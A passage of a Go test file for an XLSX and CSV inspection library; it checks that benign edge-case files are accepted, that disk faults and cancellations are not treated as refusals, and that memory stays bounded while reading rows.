			t.Errorf("%s: %v (%s), want %q (%s)", name, err, ReasonOf(err), tt.want, tt.reason)
			continue
		}
		if es[0].Text.VI == "" || strings.Contains(es[0].Text.VI+es[0].Text.EN, "%!") {
			t.Errorf("%s: %+v", name, es[0].Text)
		}
		if limit := strings.HasPrefix(string(tt.reason), "LIMIT_"); limit != (es[0].Code == thads.CodeLimit) {
			t.Errorf("%s has the code %s", name, es[0].Code)
		}
	}
}

func TestHarmlessFiles(t *testing.T) {
	book := workbook(`<row r="1"><c r="A1"><f>SUM(B1:C1)</f><v>1</v></c></row>`)
	for name, data := range map[string][]byte{
		"a link to follow":        pack(t, with(book, "xl/worksheets/_rels/sheet1.xml.rels", relationship("hyperlink", "mailto:a@x.example", "External"))),
		"types that are not used": pack(t, with(book, "[Content_Types].xml", `<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`)),
		"absurd dimensions":       pack(t, with(book, "xl/worksheets/sheet1.xml", `<worksheet><dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384"/></cols><sheetData><row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData></worksheet>`)),
		"absurd counts":           pack(t, with(book, "xl/sharedStrings.xml", `<sst count="999999999999" uniqueCount="999999999999"><si><t>a</t></si></sst>`)),
		"a byte order mark":       pack(t, with(book, "xl/worksheets/sheet1.xml", "\ufeff"+book["xl/worksheets/sheet1.xml"])),
		"no shared strings":       pack(t, with(book, "xl/_rels/workbook.xml.rels", relationship("worksheet", "worksheets/sheet1.xml", ""))),
		"a column ID":             []byte("ID;Phường;Số\n1;a;2\n"),
		"a column BM":             []byte("BM;a\nx;y\n"),
		"a list of dashes":        []byte("a;b\n- IMAGE (bản chụp); - x | y!\n"),
		"a formula of CSV":        []byte("a;b\n=1+1;=SUM(A1:A2)\n"),
		"nothing but separators":  []byte(";;;\n;;;\n"),
	} {
		if err := readFile(data, DefaultLimits()); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	var r *Row
	for row, err := range openFile(t, pack(t, book)).sheets[0].rows() {
		if err != nil {
			t.Fatal(err)
		}
		r = row
	}
	if diff := cmp.Diff([]Cell{{Kind: Number, Text: "1", Formula: true}}, r.Cells); diff != "" {
		t.Error(diff)
	}
}

// A brokenDisk fails behind a place.
type brokenDisk struct {
	r    io.ReaderAt
	good int64
}

var errDisk = errors.New("the disk is broken")

func (d brokenDisk) ReadAt(p []byte, off int64) (int, error) {
	if off+int64(len(p)) > d.good {
		return 0, errDisk
	}
	return d.r.ReadAt(p, off)
}

// A store that fails is not a damaged file: the person would be told to mend it.
func TestFaultsAreNoRefusals(t *testing.T) {
	texts := strings.Repeat("<si><t>Mã đơn vị</t></si>", 10)
	noise := make([]byte, 0, 300_000)
	for i := range uint32(cap(noise)) {
		noise = append(noise, "0123456789abcdef"[(i*2654435761)>>28])
	}
	for name, data := range map[string][]byte{
		"xlsx": pack(t, with(with(workbook(`<row><c t="s"><v>5</v></c></row>`), "xl/sharedStrings.xml", "<sst>"+texts+"</sst>"), "xl/media/a.bin", string(noise))),
		"csv":  []byte(strings.Repeat("Số;b\n", 20_000)),
	} {
		size := int64(len(data))
		if err := readFile(data, DefaultLimits()); err != nil {
			t.Fatal(err)
		}
		for good := int64(0); good < size; good += max(1, size/200) {
			b, err := Open(brokenDisk{bytes.NewReader(data), good}, size, DefaultLimits())
			if err == nil {
				err = b.Inspect(t.Context())
			}
			if _, refused := thads.Refusals(err); refused || err == nil || !errors.Is(err, errDisk) {
				t.Fatalf("%s, failing from %d of %d: %v", name, good, size, err)
			}
		}
	}
}

func TestInspectStops(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	for name, data := range map[string][]byte{"xlsx": pack(t, workbook(`<row/>`)), "csv": []byte(strings.Repeat("a;b\n", 2000))} {
		err := openFile(t, data).Inspect(ctx)
		if _, refused := thads.Refusals(err); refused || !errors.Is(err, context.Canceled) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// Memory does not grow with the rows, of which a workbook with its texts in the
// cells and a CSV file keep none.
func TestRowsInBoundedMemory(t *testing.T) {
	heap := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	const rows = 8000
	for name, data := range map[string][]byte{"xlsx": largeWorkbook(t, rows, false), "csv": largeCSV(t, rows)} {
		b := openFile(t, data)
		before, n := heap(), 0
		for _, err := range b.sheets[0].rows() {
			if err != nil {
				t.Fatal(err)
			}
			if n++; n%2000 == 0 {
				if after := heap(); after > before+2<<20 {
					t.Errorf("%s: %d KB are held after %d rows", name, (after-before)>>10, n)
				}
			}
		}
		if n != rows {
			t.Errorf("%s: %d rows", name, n)
		}
		runtime.KeepAlive(b)
	}
}
